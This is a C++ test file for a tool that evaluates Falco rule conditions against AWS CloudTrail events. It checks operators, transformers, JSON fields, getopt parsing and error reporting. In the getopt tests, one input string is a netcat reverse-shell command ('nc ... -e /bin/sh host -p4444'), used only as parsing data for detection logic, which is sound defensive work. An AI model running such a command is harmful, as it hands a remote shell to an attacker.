// What the operators, transformers and fields of Falco conditions mean.
#include "rule/falco/fields.h"
#include "rule/falco/parser.h"
#include "rule/falco_asking.h"
#include "rule/readable.h"

using namespace yagura;
using namespace yagura::test;

namespace {

constexpr std::string_view kEvent =
    R"({"eventTime":"2024-07-31T23:29:16Z","eventID":"e-1","eventName":"CreateUser","eventSource":"iam.amazonaws.com","awsRegion":"eu-west-1","sourceIPAddress":"192.0.2.7","userAgent":"aws-cli/2.0","readOnly":false,"errorCode":null,"recipientAccountId":"111122223333","userIdentity":{"type":"IAMUser","userName":"Bob","arn":"arn:aws:iam::111122223333:user/Bob"},"requestParameters":{"userName":"eve","path":"/team/red/","n":10,"encoded":"aGkgdGhlcmU=","list":["a","b"],"empty":"","deep":{"x~/y":[{"k":"v"}]}},"responseElements":null,"resources":[{"ARN":"a"},{"ARN":"b"}]})";

bool holds(std::string_view condition) {
    return falco_matches(condition, kEvent);
}

}  // namespace

TEST_CASE("a check of an absent field is false whatever it asks") {
    for (const std::string_view field : {"ct.errormessage",
                                         "ct.error",
                                         "s3.key",
                                         "json.value[/nowhere/at/all]",
                                         "ct.response",
                                         "getopt(ct.error, 'a:')[a]"}) {
        CAPTURE(field);
        for (const std::string_view check : {"exists",         "= x",
                                             "!= x",           "< x",
                                             "<= x",           "> x",
                                             ">= x",           "contains x",
                                             "icontains x",    "bcontains 78",
                                             "startswith x",   "bstartswith 78",
                                             "endswith x",     "glob *",
                                             "iglob *",        "regex .*",
                                             "in (x)",         "intersects (x)",
                                             "pmatch (/)",     "startswith anyof (x)",
                                             "= val(ct.name)", "!= val(ct.name)"}) {
            CHECK_FALSE(holds(std::string(field) + " " + std::string(check)));
            CHECK(holds("not " + std::string(field) + " " + std::string(check)));
        }
    }
}

TEST_CASE("texts are compared whole and with their case") {
    CHECK(holds("ct.name = CreateUser"));
    CHECK(holds("ct.name==\"CreateUser\""));
    CHECK_FALSE(holds("ct.name = createuser"));
    CHECK_FALSE(holds("ct.name != CreateUser"));
    CHECK(holds("ct.name != createuser"));
    CHECK(holds("ct.name contains ateUs"));
    CHECK_FALSE(holds("ct.name contains ateus"));
    CHECK(holds("ct.name icontains ATEUS"));
    CHECK(holds("ct.name startswith Create"));
    CHECK_FALSE(holds("ct.name startswith create"));
    CHECK(holds("ct.name endswith User"));
    CHECK_FALSE(holds("ct.name endswith user"));
    CHECK(holds("ct.name bcontains 6174"));
    CHECK(holds("ct.name bstartswith 4372"));
    CHECK_FALSE(holds("ct.name bstartswith 6174"));
}

TEST_CASE("texts are ordered by their bytes") {
    CHECK(holds("ct.name < D"));
    CHECK(holds("ct.name > CreateTrail"));
    CHECK(holds("ct.name <= CreateUser"));
    CHECK(holds("ct.name >= CreateUser"));
    CHECK_FALSE(holds("json.value[/requestParameters/n] > 9"));
}

TEST_CASE("a glob fits the whole text, and * crosses slashes") {
    CHECK(holds("ct.name glob Create*"));
    CHECK(holds("ct.name glob 'Create?ser'"));
    CHECK(holds("ct.name glob 'Create[T-V]ser'"));
    CHECK_FALSE(holds("ct.name glob 'Create[!T-V]ser'"));
    CHECK_FALSE(holds("ct.name glob create*"));
    CHECK(holds("ct.name iglob create*"));
    CHECK(holds("ct.name iglob 'create[u]*'"));
    CHECK_FALSE(holds("ct.name glob Create"));
    CHECK(holds("ct.user.arn glob arn:*/Bob"));
    CHECK_FALSE(holds(R"(ct.name glob 'Create\\*')"));
}

TEST_CASE("a regular expression fits the whole text") {
    CHECK(holds("ct.name regex 'Create(User|Role)'"));
    CHECK_FALSE(holds("ct.name regex Create"));
    CHECK_FALSE(holds("ct.name regex 'create.*'"));
    CHECK(holds("ct.name regex '.*|x'"));
}

TEST_CASE("in, intersects and pmatch take lists") {
    CHECK(holds("ct.name in (a, CreateUser)"));
    CHECK(holds("ct.name intersects ('CreateUser')"));
    CHECK_FALSE(holds("ct.name in ()"));
    CHECK_FALSE(holds("ct.name in (createuser)"));
    CHECK(holds("json.value[/requestParameters/path] pmatch (/etc, /team)"));
    CHECK(holds("json.value[/requestParameters/path] pmatch (/t*/red)"));
    CHECK_FALSE(holds("json.value[/requestParameters/path] pmatch (/te, /team/re)"));
}

TEST_CASE("oneof, anyof and allof link the values of an operator") {
    CHECK(holds("ct.name startswith anyof (Put, Create)"));
    CHECK_FALSE(holds("ct.name startswith anyof (Put, Delete)"));
    CHECK(holds("ct.name contains allof (Create, User)"));
    CHECK_FALSE(holds("ct.name contains allof (Create, Role)"));
    CHECK(holds("ct.name contains oneof (Create, Role)"));
    CHECK_FALSE(holds("ct.name contains oneof (Create, User)"));
    CHECK(holds("ct.name != anyof"));  // a word like any other when no parenthesis follows
}

TEST_CASE("transformers change what is compared") {
    CHECK(holds("tolower(ct.name) = createuser"));
    CHECK(holds("toupper(tolower(ct.name)) = CREATEUSER"));
    CHECK(holds("basename(ct.user.arn) = Bob"));
    CHECK(holds("len(ct.name) = 10"));
    CHECK(holds("len(ct.name) > 9"));
    CHECK(holds("concat(ct.region, \"/\", ct.name) = eu-west-1/CreateUser"));
    CHECK(holds("join(\"-\", ct.region, ct.name) startswith eu-west-1-C"));
    CHECK_FALSE(holds("b64(ct.region) exists"));
    CHECK(holds("b64(json.value[/requestParameters/encoded]) = 'hi there'"));
    CHECK(holds("ct.name = val(ct.name)"));
    CHECK(holds("ct.user != val(ct.request.username)"));
    CHECK(holds("ct.user.arn endswith val(ct.user)"));
    CHECK(holds("tolower(ct.user) = tolower(ct.user)"));
}

TEST_CASE("the values of JSON are texts") {
    CHECK(holds("json.value[/requestParameters/n] = 10"));
    CHECK(holds("json.value[/readOnly] = false"));
    CHECK(holds("ct.readonly=false"));
    CHECK(holds("json.value[/requestParameters/empty]=\"\""));
    CHECK(holds("json.value[/requestParameters/empty] exists"));
    CHECK(holds(R"(json.value[/requestParameters/list] = '["a","b"]')"));
    CHECK_FALSE(holds("json.value[/requestParameters/list] = a"));
    CHECK(holds("json.value[/requestParameters/list/1] = b"));
    CHECK(holds("json.value[/requestParameters/deep/x~0~1y/0/k] = v"));
    CHECK(holds("json.value[/eventName] = CreateUser"));
    CHECK_FALSE(holds("json.value[/source_ip] exists"));  // a name of ours, not of the record
    CHECK(holds("jevt.value[/userIdentity/userName] = Bob"));
}

TEST_CASE("json.value of JSON null is the text null, as Falco's plugin has it") {
    for (const std::string_view field :
         {"json.value[/responseElements]", "json.value[/errorCode]", "jevt.value[/gone/0/a]"}) {
        const FalcoBench bench(falco_rules({falco_rule(std::string(field) + " exists")}));
        CAPTURE(field);
        const std::string record =
            R"({"eventTime":"2024-07-31T23:29:16Z","responseElements":null,"errorCode":null,"gone":[{"a":null}]})";
        const auto holds_there = [&](std::string_view check) {
            return falco_matches(std::string(field) + " " + std::string(check), record);
        };
        CHECK(holds_there("exists"));
        CHECK(holds_there("= null"));
        CHECK(holds_there("!= Success"));
        CHECK(holds_there("in (a, null)"));
        CHECK(holds_there("startswith nu"));
        CHECK(holds_there("glob n*l"));
        CHECK(holds_there("> a"));
        CHECK_FALSE(holds_there("= Success"));
        CHECK_FALSE(holds_there("!= null"));
        CHECK_FALSE(holds_there("in (a, b)"));
        CHECK(falco_matches("len(" + std::string(field) + ") = 4", record));
    }
    CHECK_FALSE(holds("ct.error exists"));
    CHECK_FALSE(holds("json.value[/requestParameters/gone] exists"));
    CHECK(holds("json.value[/eventName] = CreateUser and json.value[/eventName] != null"));
}

TEST_CASE("getopt finds the options of a command line") {
    const auto given = [](std::string_view condition, std::string_view line) {
        return falco_matches(
            condition,
            R"({"eventTime":"2024-07-31T23:29:16Z","eventName":")" + std::string(line) + "\"}");
    };
    constexpr std::string_view kLine = "nc -nv -e /bin/sh host -p4444 -- -x";
    CHECK(given("getopt(ct.name, 'nve:p:') intersects (e, z)", kLine));
    CHECK(given("getopt(ct.name, 'nve:p:') in (n, v, e, p)", kLine));
    CHECK_FALSE(given("getopt(ct.name, 'nve:p:') in (n, v, e)", kLine));
    CHECK_FALSE(given("getopt(ct.name, 'nve:p:x') intersects (x)", kLine));
    CHECK(given("getopt(ct.name, 'e:')[e] = /bin/sh", kLine));
    CHECK(given("basename(getopt(ct.name, 'e:')[e]) = sh", kLine));
    CHECK(given("getopt(ct.name, 'e:p:')[p] startswith 44", kLine));
    CHECK(given("getopt(ct.name, 'n')[n] = ''", kLine));
    CHECK(given("len(getopt(ct.name, 'nve:p:')) = 4", kLine));
    CHECK(given("join('+', getopt(ct.name, 'nve:p:')) = n+v+e+p", kLine));
    CHECK(given("getopt(ct.name, 'p::')[p] = 4444", kLine));
    CHECK(given("getopt(ct.name, 'e::')[e] = ''", kLine));
    CHECK_FALSE(given("getopt(ct.name, 'e:')[e] exists", "nc -e"));
    CHECK_FALSE(given("getopt(ct.name, 'ab') exists", "no options"));
}

TEST_CASE("a condition is read back with what it computes") {
    const auto reads = [](std::string_view condition) {
        return rule::readable(falco_rules({falco_rule(condition)})[0]);
    };
    CHECK(reads("tolower(ct.useragent) contains curl") ==
          "tolower(userAgent) contains \"curl\" (case matters)\n");
    CHECK(reads("json.value[/requestParameters/a/0] = x") ==
          "requestParameters/a/0 is \"x\" (case matters)\n");
    CHECK(reads("ct.user.arn endswith val(ct.id)") ==
          "userIdentity.arn ends with the value of eventID (case matters)\n");
    CHECK(reads("getopt(ct.name, 'e:')[e] < m") ==
          "getopt(eventName, \"e:\")[e] is below \"m\" (case matters)\n");
    CHECK(reads("ec2.imageids in (a)").find("every value of first(") != std::string::npos);
}

TEST_CASE("the number of an event counts the records of its file") {
    CHECK(holds("evt.num = 1"));
    CHECK(holds("evt.num <= 3"));
    CHECK_FALSE(holds("evt.num > 1"));
    CHECK(holds("evt.num in (1, 2)"));
    CHECK(holds("s3.bytes exists or evt.num != 7"));
}

TEST_CASE("derived fields mean what their descriptions say") {
    CHECK(holds("ct.shortsrc = iam"));
    CHECK(holds("ct.user = Bob and ct.originaluser = Bob"));
    CHECK(holds("ct.user.accountid = 111122223333"));
    CHECK(holds(R"(ct.resources = '{"ARN":"a"},{"ARN":"b"}')"));
    CHECK(holds("s3.cnt.get = 0 and s3.cnt.other = 1"));
    CHECK_FALSE(holds("s3.bytes > 0"));
    CHECK(holds("evt.num > 0 and evt.type = pluginevent and evt.source = aws_cloudtrail"));
    const auto user = [](std::string_view identity) {
        const std::string record =
            R"({"eventTime":"2024-07-31T23:29:16Z","userIdentity":)" + std::string(identity) + "}";
        FalcoBench bench(
            falco_rules({falco_rule("ct.user exists",
                                    "- rule: O\n  desc: d\n  condition: ct.originaluser = alice\n  "
                                    "output: o\n  priority: INFO\n  source: aws_cloudtrail\n")}));
        return bench.ask(record).size();
    };
    CHECK(user(R"({"type":"AssumedRole","arn":"arn:aws:sts::1:assumed-role/Admin/alice"})") == 2);
    CHECK(user(R"({"type":"AssumedRole","principalId":"AROA1:alice"})") == 2);
    CHECK(user(R"({"type":"AssumedRole","arn":"a/b/c/alice"})") == 1);
    CHECK(user(R"({"type":"Root"})") == 0);
    CHECK(user(R"({"type":"FederatedUser"})") == 1);
    CHECK(user(R"({"type":"AWSService","invokedBy":"x"})") == 1);
}

TEST_CASE("list fields are asked with exists, in and intersects") {
    constexpr std::string_view kStart =
        R"({"eventTime":"2024-07-31T23:29:16Z","requestParameters":{"imageId":"ami-0"},"responseElements":{"instancesSet":{"items":[{"imageId":"ami-1"},{"imageId":"ami-2"}]}}})";
    const auto asks = [&](std::string_view c) { return falco_matches(c, kStart); };
    CHECK(asks("ec2.imageids exists"));
    CHECK(asks("ec2.imageids in (ami-1, ami-2, ami-3)"));
    CHECK_FALSE(asks("ec2.imageids in (ami-1)"));
    CHECK(asks("ec2.imageids intersects (ami-2, x)"));
    CHECK_FALSE(asks("ec2.imageids intersects (ami-0)"));
    CHECK(asks("len(ec2.imageids) = 2"));
    CHECK(asks("join(',', ec2.imageids) = 'ami-1,ami-2'"));
    CHECK(asks("ec2.imageid = ami-1"));
    CHECK_FALSE(holds("ec2.imageids in (x)"));
}

TEST_CASE("or binds less than and, and that less than not") {
    CHECK(holds("ct.name = x and ct.name = y or ct.name = CreateUser"));
    CHECK(holds("not ct.name = x and not(ct.name = y)"));
    CHECK(holds("(ct.name = x or(ct.name = CreateUser))and(not not ct.id = e-1)"));
}

TEST_CASE("a mistake in a condition is told at its place with what is near") {
    CHECK(condition_errors("ct.nam = x") ==
          std::vector<std::string>{"3:14: unknown field 'ct.nam' (did you mean 'ct.name'?)"});
    CHECK(condition_errors("ct.name startwith x") ==
          std::vector<std::string>{
              "3:22: unknown operator 'startwith' (did you mean 'startswith'?)"});
    CHECK(
        condition_errors("lower(ct.name) = x")[0].starts_with("3:14: unknown transformer 'lower'"));
    CHECK(condition_errors("ct.name = x or known_role")[0] == "3:29: unknown macro 'known_role'");
    CHECK(condition_errors("ct.name = x AND ct.id = y")[0].starts_with("3:26: "));
    CHECK(condition_errors("ct.name in approved")[0] == "3:25: unknown list 'approved'");
    CHECK(condition_errors("(ct.name = x")[0].starts_with("3:26: "));
    CHECK(condition_errors("ct.name = 'a\\qb'")[0].find("'\\q' is no escape") != std::string::npos);
    CHECK(condition_errors("ct.name regex '('").size() == 1);
    CHECK(condition_errors("json.value = x").size() == 1);
    CHECK(condition_errors("ct.name[3] = x").size() == 1);
    CHECK(condition_errors("s3.bytes contains 3").size() == 1);
    CHECK(condition_errors("s3.bytes > many").size() == 1);
    CHECK(condition_errors("ec2.imageids = x").size() == 1);
    CHECK(condition_errors("ct.name bcontains xyz").size() == 1);
    CHECK(condition_errors("getopt(ct.name, 'a') = x").size() == 1);  // a list
    CHECK(condition_errors("getopt(ct.name, '-a') exists").size() == 1);
    CHECK(condition_errors("getopt(ct.name, ct.id) exists").size() == 1);
    CHECK(condition_errors("getopt(ct.name) exists").size() == 1);
    CHECK(condition_errors("getopt(ct.name, 'ab:')[c] exists").size() == 1);
    CHECK(condition_errors("getopt(ct.name, 'ab:')[:] exists").size() == 1);
    CHECK(condition_errors("evt.num > many").size() == 1);
    CHECK(condition_errors("ct.name glob val(ct.id)").size() == 1);
    CHECK(condition_errors("ct.name =").size() == 1);
    CHECK(condition_errors("and").size() == 1);
    CHECK(condition_errors(std::string(500, '(')).size() == 1);
}

TEST_CASE("every field of the plugin has a row, a type and a term") {
    size_t cloudtrail = 0;
    for (const auto& field : rule::falco::fields()) {
        CAPTURE(field.name);
        cloudtrail += field.name.starts_with("ct.") || field.name.starts_with("s3.") ||
                      field.name.starts_with("ec2.") || field.name.starts_with("ecr.") ||
                      field.name.starts_with("iam.");
        CHECK_FALSE(field.sentence.english.empty());
        CHECK_FALSE(field.sentence.japanese.empty());
        CHECK(rule::falco::find_field(field.name) == &field);
        const std::string name(field.name);
        const std::string asked = field.takes_argument ? name + "[/a]" : name;
        CHECK(condition_errors(asked + " exists").empty());
    }
    CHECK(cloudtrail == 73);
}
